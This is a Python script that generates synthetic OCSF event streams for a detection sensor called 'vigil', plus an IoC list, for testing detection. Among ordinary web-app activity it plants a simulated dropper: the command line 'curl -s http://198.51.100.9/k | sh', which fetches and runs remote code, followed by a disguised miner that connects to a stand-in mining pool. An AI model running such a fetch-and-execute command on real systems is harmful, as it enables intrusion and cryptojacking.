#!/usr/bin/env python3
"""Generates realistic vigil event streams (docs/events.md: OCSF 1.5.0, as
events/events.cpp to_json() writes them) with planted IoCs.

Each sensor is one task: an entrypoint (/bin/sh /app/start.sh) that starts a
Python web app; the app writes files, resolves names, connects to its database
and to AWS, and now and then runs a helper (curl, convert, gzip) that does the
same. One sensor, at --plant-at of its stream, runs a dropper: the app forks
sh, sh execs a miner (sha256 --hash) that resolves a subdomain of --domain and
connects to --ip. Records are written as vigil writes them (keys sorted, no
spaces). Deterministic for a given --seed.

  gen.py --bytes 100M --out events.jsonl [--iocs iocs.txt] [--decoys 1000]
"""
import argparse
import json
import random
import sys

p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
p.add_argument("--events", type=int, help="number of events")
p.add_argument("--bytes", help="approximate output size (K, M, G suffixes)")
p.add_argument("--sensors", type=int, default=2)
p.add_argument("--seed", type=int, default=16)
p.add_argument("--hash", default="5f2b7c0e9d1a4b3c8e6f0a1d2c3b4a5968778695a4b3c2d1e0f9e8d7c6b5a493")
p.add_argument("--ip", default="203.0.113.77")
p.add_argument("--domain", default="evil-pool.example")
p.add_argument("--plant-at", type=float, default=0.6, help="fraction of the stream where the dropper runs")
p.add_argument("--out", default="-")
p.add_argument("--iocs", help="also write a plain IoC list: the planted ones and --decoys random ones")
p.add_argument("--decoys", type=int, default=1000)
a = p.parse_args()

rnd = random.Random(a.seed)
if a.bytes:
    mult = {"K": 1 << 10, "M": 1 << 20, "G": 1 << 30}
    n = a.bytes.upper()
    limit_bytes = int(float(n[:-1]) * mult[n[-1]]) if n[-1] in mult else int(n)
    limit_events = None
else:
    limit_bytes, limit_events = None, a.events or 10000

out = sys.stdout if a.out == "-" else open(a.out, "w")
hexd = "0123456789abcdef"


def rhex(n):
    return "".join(rnd.choice(hexd) for _ in range(n))


SHA = {exe: rhex(64) for exe in ["/usr/bin/dash", "/usr/bin/python3.11", "/usr/bin/curl", "/usr/bin/convert",
                                 "/usr/bin/gzip"]}


class Sensor:
    def __init__(self, i):
        self.id = rhex(16)
        self.seq = 0
        self.host = f"ip-10-0-{i + 1}-{rnd.randrange(2, 250)}"
        self.container = rhex(32) + "-" + str(rnd.randrange(10**9, 10**10))
        self.next_pid = 20
        self.procs = {}
        self.live = []  # helper processes still running
        self.planted = False
        self.miner = None


def proc_obj(s, pid, with_parent=True, pr=None):
    """OCSF process object (events.cpp process_json)."""
    pr = pr or s.procs[pid]
    exe = pr["exe"]
    f = {"name": exe.rsplit("/", 1)[-1], "path": exe, "type_id": 1, "type": "Regular File"}
    if pr.get("sha256"):
        f["hashes"] = [{"algorithm_id": 3, "algorithm": "SHA-256", "value": pr["sha256"]}]
    o = {"pid": pid, "name": exe.rsplit("/", 1)[-1], "cmd_line": " ".join(pr["args"]), "file": f,
         "working_directory": pr.get("cwd", "/app"), "user": {"uid": "1000"}}
    parent = s.procs.get(pr["ppid"])
    if with_parent and parent:
        o["parent_process"] = proc_obj(s, pr["ppid"], False)
    elif with_parent:
        o["parent_process"] = {"pid": pr["ppid"]}
    return o


def proc_extra(s, pid):
    """What OCSF has no attribute for (events.cpp process_extra)."""
    pr = s.procs[pid]
    o = {"args": pr["args"], "ppid": pr["ppid"], "user": {"uid": 1000, "gid": 1000, "euid": 1000, "egid": 1000},
         "sid": 7}
    if pr.get("script"):
        o["script"] = pr["script"]
    return o


t_ns = 1_795_000_000 * 10**9  # 2026-11-18
written = 0
count = 0


def rfc3339(ns):
    import time as _t
    return _t.strftime("%Y-%m-%dT%H:%M:%S", _t.gmtime(ns // 10**9)) + f".{ns % 10**9:09d}Z"


CLASSES = {1007: ("Process Activity", 1, "System Activity"), 1001: ("File System Activity", 1, "System Activity"),
           4001: ("Network Activity", 4, "Network Activity"), 4003: ("DNS Activity", 4, "Network Activity")}
ACTIVITIES = {"exec": (1, "Launch"), "fork": (1, "Launch"), "exit": (2, "Terminate"), "openat": (14, "Open"),
              "connect": (1, "Open"), "sendmmsg": (1, "Query"), "recvfrom": (2, "Response")}


def endpoint(e):
    o = {"ip": e["addr"]}
    if e.get("port"):
        o["port"] = e["port"]
    return o


def emit(s, cls, type_, pid, child_pid=None, exit=None, file=None, network=None, dns=None, args=None):
    """One record as events.cpp to_json() writes it (OCSF 1.5.0)."""
    global t_ns, written, count
    t_ns += rnd.randrange(20_000, 2_000_000)
    s.seq += 1
    name, cat, cat_name = CLASSES[cls]
    act, act_name = ACTIVITIES[type_]
    ev = {"class_uid": cls, "class_name": name, "category_uid": cat, "category_name": cat_name,
          "activity_id": act, "activity_name": act_name, "type_uid": cls * 100 + act, "type_name": f"{name}: {act_name}",
          "severity_id": 1, "severity": "Informational", "time": t_ns // 10**6, "time_dt": rfc3339(t_ns),
          "metadata": {"version": "1.5.0", "product": {"name": "vigil", "vendor_name": "vigil", "version": "0.1.0"},
                       "profiles": ["host", "container", "datetime"], "uid": f"{s.id}:{s.seq}", "sequence": s.seq,
                       "event_code": type_},
          "device": {"type_id": 6, "type": "Virtual", "hostname": s.host, "container": {"uid": s.container}}}
    un = {"type": type_, "process": proc_extra(s, pid)}
    actor = proc_obj(s, pid)
    if type_ == "fork":  # the child is the process, its parent the actor
        child = proc_obj(s, child_pid, False, dict(s.procs[pid], ppid=pid))
        child["parent_process"] = proc_obj(s, pid, False)
        ev["process"] = child
        un["child_pid"] = child_pid
    elif type_ == "exec" and s.procs[pid]["ppid"] in s.procs:
        ev["process"] = actor
        actor = proc_obj(s, s.procs[pid]["ppid"])
    elif cls == 1007:
        ev["process"] = actor
    ev["actor"] = {"process": actor}
    if exit is not None:
        ev["exit_code"] = exit["code"]
        un["exit"] = exit
    if file:
        ev["file"] = {"name": file["path"].rsplit("/", 1)[-1], "path": file["path"], "type_id": 0, "type": "Unknown"}
        un["file"] = file
    if network:
        if "local" in network:
            ev["src_endpoint"] = endpoint(network["local"])
        if "remote" in network:
            ev["dst_endpoint"] = endpoint(network["remote"])
            if network.get("remote_name"):
                ev["dst_endpoint"]["hostname"] = network["remote_name"]
        proto = network["protocol"]
        ev["connection_info"] = {"direction_id": 2, "protocol_num": proto, "protocol_name": {6: "tcp", 17: "udp"}[proto]}
        un["network"] = network
    if dns:
        ev["query"] = {"hostname": dns["qname"], "type": "A"}
        if dns["answers"]:
            ev["answers"] = [{"rdata": x, "type": "A"} for x in dns["answers"]]
        un["dns"] = {"qtype": dns["qtype"]}
    if args:
        un["args"] = args
        if "rcode" in args:
            ev["rcode_id"], ev["rcode"] = 0, "NoError"
    ev["unmapped"] = un
    line = json.dumps(ev, sort_keys=True, separators=(",", ":"), ensure_ascii=False) + "\n"
    out.write(line)
    written += len(line)
    count += 1


def exec_(s, pid, ppid, exe, args, sha256=None):
    s.procs[pid] = {"ppid": ppid, "exe": exe, "args": args, "sha256": sha256 or SHA.get(exe)}
    emit(s, 1007, "exec", pid)


def fork(s, parent):
    pid = s.next_pid
    s.next_pid += rnd.randrange(1, 4)
    if s.next_pid > 32000:
        s.next_pid = 20  # pid reuse
    emit(s, 1007, "fork", parent, child_pid=pid)
    s.procs[pid] = dict(s.procs[parent], ppid=parent)
    return pid


def exit_(s, pid, code=0):
    emit(s, 1007, "exit", pid, exit={"code": code})


def file_ev(s, pid, path):
    emit(s, 1001, "openat", pid, file={"path": path, "flags": 577, "mode": 420, "fd": rnd.randrange(3, 40)})


NAMES = ["db.internal.corp", "s3.us-east-1.amazonaws.com", "sqs.us-east-1.amazonaws.com", "api.stripe.com",
         "logs.us-east-1.amazonaws.com", "cache.internal.corp", "sts.amazonaws.com"]


def dns_ev(s, pid, name, answers):
    fd = rnd.randrange(3, 40)
    emit(s, 4003, "sendmmsg", pid, dns={"qname": name, "qtype": 1, "answers": []},
         args={"qtypes": "1,28"}, network={"domain": 2, "type": 2, "protocol": 17, "fd": fd,
                                            "remote": {"family": 2, "addr": "169.254.169.253", "port": 53}})
    emit(s, 4003, "recvfrom", pid, dns={"qname": name, "qtype": 1, "answers": answers}, args={"rcode": "0"})


def connect_ev(s, pid, addr, port, name=None):
    net = {"domain": 2, "type": 1, "protocol": 6, "fd": rnd.randrange(3, 40),
           "remote": {"family": 2, "addr": addr, "port": port},
           "local": {"family": 2, "addr": "10.0.1.17", "port": rnd.randrange(32768, 60999)}}
    if name:
        net["remote_name"] = name
    emit(s, 4001, "connect", pid, network=net)


def app_activity(s, pid):
    r = rnd.random()
    if r < 0.4:
        file_ev(s, pid, rnd.choice(["/app/logs/app.log", "/tmp/cache/" + rhex(12), "/app/uploads/" + rhex(8) + ".png",
                                    "/tmp/tmp" + rhex(6)]))
    elif r < 0.65:
        name = rnd.choice(NAMES)
        dns_ev(s, pid, name, [f"10.0.{rnd.randrange(0, 4)}.{rnd.randrange(2, 250)}"])
    else:
        name = rnd.choice(NAMES)
        addr = f"52.{rnd.randrange(0, 100)}.{rnd.randrange(0, 256)}.{rnd.randrange(1, 255)}"
        connect_ev(s, pid, addr, rnd.choice([443, 5432, 6379]), name)


def plant(s, app):
    sh = fork(s, app)
    exec_(s, sh, app, "/usr/bin/dash", ["sh", "-c", "curl -s http://198.51.100.9/k | sh"])
    miner = fork(s, sh)
    exec_(s, miner, sh, "/tmp/.cache/kworkerd", ["/tmp/.cache/kworkerd", "-o", "pool." + a.domain + ":3333"], a.hash)
    return sh, miner


def step(s):
    """one unit of activity on sensor s"""
    if not s.procs:  # start: the entrypoint, then the app
        s.procs[7] = {"ppid": 1, "exe": "/usr/bin/dash", "args": ["/bin/sh", "/app/start.sh"], "script": "/app/start.sh",
                      "sha256": SHA["/usr/bin/dash"]}
        emit(s, 1007, "exec", 7)
        app = fork(s, 7)
        exec_(s, app, 7, "/usr/bin/python3.11", ["python3", "/app/app.py", "--port", "8080"])
        s.app = app
        return
    r = rnd.random()
    if r < 0.02 and len(s.live) < 4:  # the app runs a helper
        child = fork(s, s.app)
        exe, args = rnd.choice([("/usr/bin/curl", ["curl", "-fsS", "https://api.stripe.com/v1/charges"]),
                                ("/usr/bin/convert", ["convert", "/app/uploads/a.png", "-resize", "50%", "/tmp/b.png"]),
                                ("/usr/bin/gzip", ["gzip", "-9", "/app/logs/app.log.1"])])
        exec_(s, child, s.app, exe, args)
        s.live.append(child)
    elif r < 0.04 and s.live:
        pid = s.live.pop(0)
        exit_(s, pid)
    elif s.live and r < 0.2:
        app_activity(s, rnd.choice(s.live))
    else:
        app_activity(s, s.app)


def planted_steps(s):
    sh, miner = plant(s, s.app)
    dns_ev(s, miner, "pool." + a.domain, [a.ip])
    connect_ev(s, miner, a.ip, 3333, "pool." + a.domain)
    file_ev(s, miner, "/tmp/.cache/config.json")
    exit_(s, sh)


sensors = [Sensor(i) for i in range(a.sensors)]


def done():
    return (limit_bytes is not None and written >= limit_bytes) or (limit_events is not None and count >= limit_events)


def progress():
    return written / limit_bytes if limit_bytes else count / limit_events


while not done():
    s = sensors[rnd.randrange(len(sensors))] if rnd.random() < 0.9 else sensors[0]
    step(s)
    if not sensors[0].planted and sensors[0].procs and progress() >= a.plant_at:
        sensors[0].planted = True
        planted_steps(sensors[0])
out.flush()

if a.iocs:
    with open(a.iocs, "w") as f:
        f.write("# planted\n%s\n%s\n%s\n# decoys\n" % (a.hash, a.ip, a.domain))
        for i in range(a.decoys):
            k = i % 3
            f.write(rhex(64) + "\n" if k == 0 else
                    f"198.18.{rnd.randrange(256)}.{rnd.randrange(256)}\n" if k == 1 else
                    f"{rhex(10)}.example.net\n")
print(f"gen.py: {count} events, {written} bytes", file=sys.stderr)
